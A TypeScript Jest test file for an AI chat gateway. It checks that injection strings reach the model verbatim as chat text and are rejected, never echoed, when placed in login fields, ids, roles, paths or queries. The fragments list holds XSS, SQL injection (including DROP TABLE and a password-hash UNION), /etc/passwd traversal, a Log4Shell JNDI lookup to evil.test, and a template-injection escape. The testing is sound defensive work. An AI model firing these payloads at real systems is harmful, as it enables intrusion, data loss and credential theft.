// Proves: P1
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import type { InjectOptions } from "light-my-request";
import { scriptedBackend } from "../../../app/chat/backends/scripted.ts";
import { bearer, json, PASSWORD, startIdentity, type IdentityHarness } from "./identity/identity-harness.ts";

/** What is dangerous in a page, in a query or in a path, and nowhere else: each of them is an honest thing to ask a model about. */
const fragments = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  "1 UNION SELECT password_hash FROM users",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "${jndi:ldap://evil.test/a}",
  "{{constructor.constructor('return process')()}}",
];

let gateway: IdentityHarness;
let cookie: Record<string, string>;
let user: Record<string, string>;
let asked: string[];
beforeAll(async () => {
  asked = [];
  const backend = scriptedBackend(({ messages }) => {
    const said = messages.at(-1)?.content ?? "";
    asked.push(said);
    return { pieces: [said] };
  });
  gateway = await startIdentity({ backend });
  cookie = (await gateway.cookie(await gateway.addUser("owner", "alice"))).headers;
  user = bearer((await gateway.tokens(await gateway.addUser("user"), "user")).access_token);
});
afterAll(() => gateway[Symbol.asyncDispose]());

async function send(options: InjectOptions): Promise<{ readonly status: number; readonly body: string }> {
  const { statusCode: status, body, headers } = await gateway.inject(options);
  // No browser makes a page of it, whatever it holds.
  if (body !== "") expect([headers["content-type"], headers["x-content-type-options"]]).toEqual([expect.stringMatching(/^(application\/json|text\/event-stream)/), "nosniff"]);
  return { status, body };
}

describe.each(fragments)("%s", (fragment) => {
  test("is said to the model as it was typed, and answered as data", async () => {
    const { status, body } = await send(json("POST", "/api/chat", { message: fragment }, user));
    expect([status, (JSON.parse(body) as { reply: string }).reply, asked.at(-1)]).toEqual([200, fragment, fragment]);
    const completion = await send(json("POST", "/v1/chat/completions", { model: "haiku", messages: [{ role: "user", content: fragment }] }, user));
    expect([completion.status, completion.body.includes(JSON.stringify(fragment)), asked.at(-1)]).toEqual([200, true, fragment]);
  });

  test("is no name, id, role or model, in a body, a path or a query", async () => {
    const said = encodeURIComponent(fragment);
    const refused = [
      json("POST", "/auth/login", { name: fragment, password: PASSWORD, totp: "000000" }),
      json("POST", "/auth/refresh", { refresh_token: fragment }),
      json("POST", "/api/chat", { message: "hi", conversation_id: fragment }, user),
      json("POST", "/v1/chat/completions", { model: "haiku", user: fragment, messages: [{ role: "user", content: "hi" }] }, user),
      json("POST", "/v1/chat/completions", { model: fragment, messages: [{ role: "user", content: "hi" }] }, user),
      json("POST", "/admin/users", { name: fragment, role: "viewer" }, cookie),
      json("POST", "/admin/users", { name: "bert", role: fragment }, cookie),
      json("POST", "/admin/keys", { userId: fragment, name: "k", class: "production" }, cookie),
      json("POST", "/admin/keys", { userId: `u_${"0".repeat(32)}`, name: fragment, class: "production" }, cookie),
      json("POST", `/admin/users/${said}/role`, { role: "viewer" }, cookie),
      { url: `/admin/users?after=${said}`, headers: cookie },
      { url: `/admin/users?role=${said}`, headers: cookie },
      { url: `/auth/sessions/${said}`, headers: cookie },
      { url: `/v1/models/${said}`, headers: user },
      { url: `/${fragment.replaceAll(/[^\x21-\x7e]/g, "")}`, headers: user },
    ] as const;
    const before = asked.length;
    for (const options of refused) {
      const { status, body } = await send(options);
      expect([options.url, [400, 401, 404].includes(status)]).toEqual([options.url, true]);
      expect(body).not.toContain("root:");
      expect(body).not.toContain(fragment);
    }
    expect(asked).toHaveLength(before);
  });
});

test("after all of it the accounts are those that there were", async () => {
  const { body } = await send({ url: "/admin/users", headers: cookie });
  expect((JSON.parse(body) as { users: { name: string | null }[] }).users.map(({ name }) => name).sort()).toEqual(["alice", null]);
});

test("times in answers are ISO 8601 in UTC, and ids have one form", async () => {
  const key = await gateway.key(await gateway.addUser("api_consumer"), { class: "production" });
  const texts: [string, string][] = [];
  for (const url of ["/auth/sessions", "/admin/users", "/admin/keys"]) {
    const { body } = await send({ url, headers: cookie });
    JSON.parse(body, (name, value: unknown) => {
      if (typeof value === "string" && /(At|^id|Id|^timestamp)$/.test(name)) texts.push([name, value]);
      return value;
    });
  }
  expect(texts.length).toBeGreaterThan(10);
  const form = (name: string): RegExp => (/At$|timestamp/.test(name) ? /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/ : /^([us]_[0-9a-f]{32}|[a-z0-9]{12})$/);
  expect(texts.filter(([name, value]) => !form(name).test(value))).toEqual([]);
  expect(key.id).toMatch(/^[a-z0-9]{12}$/);
});
